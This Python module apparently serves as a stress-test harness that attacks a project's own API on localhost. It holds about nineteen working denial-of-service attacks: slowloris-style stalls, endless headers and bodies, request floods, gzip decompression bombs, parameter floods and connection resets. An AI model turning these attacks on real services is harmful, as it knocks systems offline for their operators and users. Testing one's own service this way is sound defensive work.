"""Attacks on the API: each is the life of one hostile connection, which opens another when it is closed.

python -m hostile.attacks NAME PORT SECONDS CONNECTIONS
"""

import asyncio
import contextlib
import gzip
import os
import re
import socket
import struct
import sys
import time
from asyncio import StreamReader, StreamWriter
from collections.abc import Awaitable, Callable

PAUSE_SECONDS = 0.01
# The attacker has a key, since without one it would not get far, unless the attack is about that.
_HOST = b"Host: 127.0.0.1\r\n"
_HEAD = _HOST + b"X-API-Key: %b\r\n" % os.environ.get("ATTACKER_KEY", "").encode()


def _post(path: bytes, body: bytes, headers: bytes = b"") -> bytes:
    return b"POST %b HTTP/1.1\r\n%b%bContent-Length: %d\r\n\r\n%b" % (path, _HEAD, headers, len(body), body)


def _get(path: bytes) -> bytes:
    return b"GET %b HTTP/1.1\r\n%b\r\n" % (path, _HEAD)


_GZIP = b"Content-Encoding: gzip\r\n"
_NESTED = gzip.compress(b"[" * 10_000_000 + b"]" * 10_000_000)
_ERRORS = gzip.compress(b"[" + b"1," * 9_999 + b"1]")
_SPACES = gzip.compress(b" " * 20_000_000)
_BLANK = gzip.compress(b"\n" * 19_900_000 + b"1\n" * 10_001)
_GETS = _get(b"/health") * 900
_QUESTION = _get(b"/metrics?event_name=a&from=1&to=4000000000")


async def _send_all(reader: StreamReader, writer: StreamWriter, part: bytes) -> None:
    """Send the same bytes for ever."""
    while True:
        writer.write(part)
        await writer.drain()


async def pipelining(reader: StreamReader, writer: StreamWriter) -> None:
    await _send_all(reader, writer, _GETS)


async def endless_header(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\nA: ")
    await _send_all(reader, writer, b"x" * 65536)


async def endless_url(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"GET /")
    await _send_all(reader, writer, b"x" * 65536)


async def header_lines(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\n")
    await _send_all(reader, writer, b"A:b\r\n" * 13_000)


async def trailers(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"POST /events HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n" % _HEAD)
    await _send_all(reader, writer, b"A:b\r\n" * 13_000)


async def idle(reader: StreamReader, writer: StreamWriter) -> None:
    await reader.read(1)


async def half_head(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\nA: b")
    await reader.read(1)


async def slow_bodies(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"POST /events/bulk HTTP/1.1\r\n%bContent-Length: 5000000\r\n\r\n%b" % (_HEAD, b" " * 4_900_000))
    await writer.drain()
    for _ in range(1000):
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(0.5)


async def endless_body(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"POST /events/bulk HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n" % _HEAD)
    await _send_all(reader, writer, b"10000\r\n" + b" " * 65536 + b"\r\n")


async def nested_gzip(reader: StreamReader, writer: StreamWriter) -> None:
    await _ask(reader, writer, _post(b"/events/bulk", _NESTED, _GZIP))


async def gzip_bomb(reader: StreamReader, writer: StreamWriter) -> None:
    await _ask(reader, writer, _post(b"/events/bulk", _SPACES, _GZIP))


async def many_errors(reader: StreamReader, writer: StreamWriter) -> None:
    await _ask(reader, writer, _post(b"/events/bulk", _ERRORS, _GZIP))


async def query_parameters(reader: StreamReader, writer: StreamWriter) -> None:
    await _ask(reader, writer, _get(b"/metrics?" + b"a&" * 32_000))


async def wrong_keys(reader: StreamReader, writer: StreamWriter) -> None:
    request = b"POST /events HTTP/1.1\r\n%bX-API-Key: emw_guess\r\nContent-Length: 2\r\n\r\n{}" % _HOST
    await _ask(reader, writer, request)


async def unread_responses(reader: StreamReader, writer: StreamWriter) -> None:
    reader._transport.pause_reading()  # type: ignore[attr-defined]  # asyncio has no public way
    for _ in range(5):
        writer.write(_get(b"/docs/files/swagger-ui-bundle.js"))
    await asyncio.sleep(30)


async def bodies_without_a_key(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(b"POST /events/bulk HTTP/1.1\r\n%bContent-Length: 65000\r\n\r\n%b" % (_HOST, b" " * 64_000))
    await reader.read(1)


async def blank_lines(reader: StreamReader, writer: StreamWriter) -> None:
    await _ask(reader, writer, _post(b"/events/bulk", _BLANK, _GZIP + b"Content-Type: application/x-ndjson\r\n"))


async def abandoned_questions(reader: StreamReader, writer: StreamWriter) -> None:
    writer.write(_QUESTION)
    await writer.drain()
    await asyncio.sleep(0.05)


async def resets(reader: StreamReader, writer: StreamWriter) -> None:
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


async def _ask(reader: StreamReader, writer: StreamWriter, request: bytes) -> None:
    """Send the request again when it is answered."""
    while True:
        writer.write(request)
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        await reader.readexactly(int(re.findall(rb"content-length: (\d+)", head)[0]))


ATTACKS: dict[str, Callable[[StreamReader, StreamWriter], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        pipelining,
        endless_header,
        endless_url,
        header_lines,
        trailers,
        idle,
        half_head,
        slow_bodies,
        endless_body,
        nested_gzip,
        gzip_bomb,
        many_errors,
        query_parameters,
        wrong_keys,
        unread_responses,
        bodies_without_a_key,
        blank_lines,
        abandoned_questions,
        resets,
    )
}


async def attack(name: str, port: int, seconds: float, connections: int) -> None:
    """Keep so many hostile connections for so many seconds."""
    until = time.monotonic() + seconds

    async def keep() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                try:
                    await ATTACKS[name](reader, writer)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(PAUSE_SECONDS)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout_at(asyncio.get_running_loop().time() + until - time.monotonic()):
            await asyncio.gather(*(keep() for _ in range(connections)))


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])))
